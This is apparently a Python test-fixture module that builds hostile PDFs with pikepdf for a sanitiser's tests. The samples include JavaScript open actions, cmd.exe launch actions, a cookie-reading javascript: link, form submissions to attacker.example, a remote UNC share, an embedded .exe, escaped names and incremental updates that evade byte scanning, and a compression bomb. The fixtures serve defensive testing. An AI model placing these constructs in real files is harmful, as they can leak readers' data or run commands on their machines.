"""A corpus of hostile PDFs, made here with pikepdf or written out by hand (with an exact
cross-reference table) so each one holds exactly the trick it is named for. Nothing is taken
from elsewhere. `TEXT` is the line every page draws, so a test can see that it survived."""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = b"(Blood test results) Tj"
DRAWING = b"BT /F1 12 Tf 72 720 Td " + TEXT + b" ET"
JS = "app.alert('hello from the PDF')"


def text_pdf(pages: int = 1) -> pikepdf.Pdf:
    """A plain PDF whose every page draws `TEXT` in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    drawing = pdf.make_stream(DRAWING)
    for _ in range(pages):
        page = pdf.add_blank_page()
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = drawing
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(JS))


def _with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    pdf = text_pdf()
    change(pdf)
    return saved(pdf, **options)


def _annotation(pdf: pikepdf.Pdf, annotation: Dictionary) -> None:
    annotation.Rect = Array([72, 600, 300, 640])
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def js_in_open_action() -> bytes:
    return _with(lambda pdf: setattr(pdf.Root, "OpenAction", javascript()))


def js_in_object_stream() -> bytes:
    """The script is an object of a compressed object stream: its name is never in the bytes."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(javascript())
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(javascript())]))
        )

    return _with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_action() -> bytes:
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    return _with(lambda pdf: setattr(pdf.Root, "OpenAction", launch))


def page_additional_actions() -> bytes:
    return _with(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=javascript())))


def link_to_javascript_uri() -> bytes:
    action = Dictionary(S=Name.URI, URI=String("javascript:alert(document.cookie)"))
    return _with(lambda pdf: _annotation(pdf, Dictionary(Subtype=Name.Link, A=action)))


def embedded_file() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ-payload-that-must-not-survive", mime_type="x")
        pdf.attachments["invoice.exe"] = spec

    return _with(change)


def acroform_with_script_and_xfa() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        widget = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            AA=Dictionary(K=javascript()),
            A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")),
        )
        _annotation(pdf, widget)
        xfa = pdf.make_stream(b"<xdp:xdp><script>alert(1)</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots, XFA=xfa)

    return _with(change)


def rich_media() -> bytes:
    content = Dictionary(Assets=Dictionary(Names=Array([])), Configurations=Array([]))
    annotation = Dictionary(Subtype=Name.RichMedia, RichMediaContent=content)
    return _with(lambda pdf: _annotation(pdf, annotation))


def go_to_remote() -> bytes:
    action = Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0]))
    return _with(lambda pdf: _annotation(pdf, Dictionary(Subtype=Name.Link, A=action)))


def submit_form() -> bytes:
    action = Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect"))
    return _with(lambda pdf: setattr(pdf.Root, "OpenAction", action))


def resources_reaching_the_catalog() -> bytes:
    """A font that points back at the catalog (with its script), a PostScript XObject, XMP
    metadata and a document information dictionary."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = javascript()
        font = pdf.pages[0].Resources.Font.F1
        font.Sneaky = pdf.Root
        font.Hook = javascript()
        postscript = pdf.make_stream(b"/Helvetica findfont", Type=Name.XObject, Subtype=Name.PS)
        pdf.pages[0].Resources.XObject = Dictionary(P1=postscript)
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:title"] = "Jane Doe HIV result"
        pdf.docinfo["/Author"] = "Jane Doe"

    return _with(change)


def encrypted(user: str = "secret") -> bytes:
    return saved(text_pdf(), encryption=pikepdf.Encryption(owner="owner", user=user))


def polyglot_html_first() -> bytes:
    return b"<!DOCTYPE html><html><script>alert(1)</script></html>\n" + saved(text_pdf())


def with_zip_appended(size: int) -> bytes:
    archive = b"PK\x03\x04" + b"\x00" * size + b"PK\x05\x06" + b"\x00" * 18
    return saved(text_pdf()) + archive


# Written by hand: exact bytes, escaped names, damaged tables, incremental updates.
PLAIN_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> >>",
    4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(DRAWING), DRAWING),
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
}


def handmade(objects: dict[int, bytes], *, shift_offsets: int = 0) -> bytes:
    """A complete PDF with a correct cross-reference table, or one whose every offset is off by
    `shift_offsets` bytes (a damaged table in a file that is otherwise whole)."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    return out + _section(out, objects, shift_offsets=shift_offsets, previous=None)


def updated(base: bytes, objects: dict[int, bytes]) -> bytes:
    """`base` with an incremental update appended that replaces or adds `objects`."""
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    return base + _section(base, objects, shift_offsets=0, previous=previous)


def _section(
    before: bytes, objects: dict[int, bytes], *, shift_offsets: int, previous: int | None
) -> bytes:
    body, offsets = b"", {}
    for number, content in sorted(objects.items()):
        offsets[number] = len(before) + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        xref += b"%d 1\n%010d 00000 n \n" % (number, offset + shift_offsets)
    size = max(max(objects), *PLAIN_OBJECTS) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R" % size
    trailer += b" /Prev %d >>\n" % previous if previous is not None else b" >>\n"
    start = len(before) + len(body)
    return body + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % start


def escaped_names() -> bytes:
    """`/J#61vaScript` is `/JavaScript` and `/#41A` is `/AA` once parsed; searching the bytes
    for the plain names finds nothing."""
    return handmade(
        PLAIN_OBJECTS
        | {
            1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 6 0 R >>",
            3: PLAIN_OBJECTS[3][:-2] + b"/#41A << /O 6 0 R >> >>",
            6: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        }
    )


def script_added_by_an_update() -> bytes:
    """The first revision is plain; the second replaces the catalog with one that runs a script
    and adds a launch action to the page."""
    return updated(
        handmade(PLAIN_OBJECTS),
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            3: PLAIN_OBJECTS[3][:-2] + b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
            6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
    )


def many_pages(count: int) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    kids = [
        pdf.make_indirect(Dictionary(Type=Name.Page, Parent=pdf.Root.Pages, MediaBox=[0, 0, 9, 9]))
        for _ in range(count)
    ]
    pdf.Root.Pages.Kids = Array(kids)
    pdf.Root.Pages.Count = count
    return saved(pdf)


def many_objects(count: int) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Junk = Array([pdf.make_indirect(Dictionary(N=n)) for n in range(count)])

    return _with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def objects_in_the_resources(count: int) -> bytes:
    """A page whose marked-content properties refer to `count` small objects, all packed into
    compressed object streams."""

    def change(pdf: pikepdf.Pdf) -> None:
        properties = {f"/P{n}": pdf.make_indirect(Dictionary(N=n)) for n in range(count)}
        pdf.pages[0].Resources.Properties = Dictionary(properties)

    return _with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# Active things a property-based test hides at any depth in a page's resources.
ACTIVE_THINGS: dict[str, Callable[[pikepdf.Pdf], pikepdf.Object]] = {
    "script": lambda pdf: javascript(),
    "launch": lambda pdf: Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "remote": lambda pdf: Dictionary(S=Name.GoToR, F=String("x.pdf")),
    "submit": lambda pdf: Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")),
    "widget": lambda pdf: Dictionary(Type=Name.Annot, Subtype=Name.Widget, AA=Dictionary()),
    "file": lambda pdf: Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"MZ"))),
    "postscript": lambda pdf: pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS),
    "xmp": lambda pdf: pdf.make_stream(b"<x:xmpmeta/>", Type=Name.Metadata, Subtype=Name.XML),
    "page actions": lambda pdf: Dictionary(AA=Dictionary(O=javascript())),
    "named scripts": lambda pdf: Dictionary(Names=Dictionary(JavaScript=Dictionary())),
}


def hidden_in_the_resources(
    thing: str, path: list[str], *, indirect: bool, in_array: bool
) -> bytes:
    """`thing` placed at `path` under the page's marked-content properties."""

    def change(pdf: pikepdf.Pdf) -> None:
        value = ACTIVE_THINGS[thing](pdf)
        if indirect:
            value = pdf.make_indirect(value)
        if in_array:
            value = Array([1, value, Name.Plain])
        for key in reversed(path):
            value = Dictionary({f"/{key}": value})
        pdf.pages[0].Resources.Properties = value

    return _with(change)


def compressed_bomb(inflated: int) -> bytes:
    """A page whose drawing is `inflated` bytes of spaces, stored deflated to a few kilobytes."""

    def change(pdf: pikepdf.Pdf) -> None:
        bomb = zlib.compress(DRAWING + b" " * inflated, 9)
        pdf.pages[0].Contents = pdf.make_stream(bomb, Filter=Name.FlateDecode)

    return _with(change)
